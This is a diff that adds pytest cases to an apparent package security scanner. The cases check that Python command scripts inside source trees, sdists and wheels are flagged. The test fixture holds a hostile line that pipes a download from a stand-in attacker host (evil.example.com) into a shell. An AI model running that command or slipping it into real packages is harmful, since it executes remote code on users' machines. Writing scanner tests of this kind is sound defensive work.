@@ -4,7 +4,10 @@ from __future__ import annotations
 
 import ast
 import errno
+import io
 import os
+import tarfile
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -272,3 +275,57 @@ def test_what_is_not_a_regular_file_is_not_read(tmp_path: Path) -> None:
     link = read_source(str(tmp_path / "link.py"), 4096)
     assert isinstance(link, OSError)
     assert link.errno == errno.ELOOP
+
+
+_SCRIPT_PAYLOAD = "import os\nos.system('curl -s https://evil.example.com/x | sh')\n"
+
+
+@pytest.mark.parametrize(
+    ("relative", "shebang"),
+    [
+        ("bin/pkg-tool", "#!/usr/bin/env python3"),  # setup.py's scripts=[...]
+        ("pkg-tool", "#!python"),  # pip rewrites it to the environment's interpreter
+        ("scripts/pkg.cmd", "#!/usr/bin/python3.11 -u"),
+        ("pkg-1.0.data/scripts/pkg-run", "#!python"),  # a wheel's scripts
+    ],
+)
+@pytest.mark.parametrize("form", ["tree", "sdist", "wheel"])
+def test_a_python_script_installed_as_a_command_is_read_in_package_mode(
+    tmp_path: Path, relative: str, shebang: str, form: str
+) -> None:
+    # not named .py, so never read: a payload in a command the package installs was
+    # clean in package mode (attack8)
+    data = f"{shebang}\n{_SCRIPT_PAYLOAD}".encode()
+    if form == "tree":
+        target = write(tmp_path / "pkg", {relative: data})
+    elif form == "sdist":
+        target = tmp_path / "pkg-1.0.tar.gz"
+        with tarfile.open(target, "w:gz") as archive:
+            info = tarfile.TarInfo(f"pkg-1.0/{relative}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    else:
+        target = tmp_path / "pkg-1.0-py3-none-any.whl"
+        with zipfile.ZipFile(target, "w") as archive:
+            archive.writestr(relative, data)
+    assert danger(target) == {"CPL-THR-015"}
+
+
+@pytest.mark.parametrize(
+    ("relative", "data"),
+    [
+        ("bin/tool", "#!/bin/sh\necho python\n" + _SCRIPT_PAYLOAD),  # a shell script
+        ("LICENSE", _SCRIPT_PAYLOAD),  # no shebang: data
+        ("docs/run.txt", "#!/usr/bin/env python\n" + _SCRIPT_PAYLOAD),  # named as data
+    ],
+)
+def test_files_that_are_not_python_scripts_stay_unread(
+    tmp_path: Path, relative: str, data: str
+) -> None:
+    assert danger(write(tmp_path, {relative: data})) == set()
+
+
+def test_a_plugins_scripts_are_judged_by_their_names(tmp_path: Path) -> None:
+    root = write(tmp_path, {"bin/tool": "#!/usr/bin/env python3\n" + _SCRIPT_PAYLOAD})
+    report = scan_tree(root, mode=ScanMode.PLUGIN)
+    assert report.files_scanned == 0
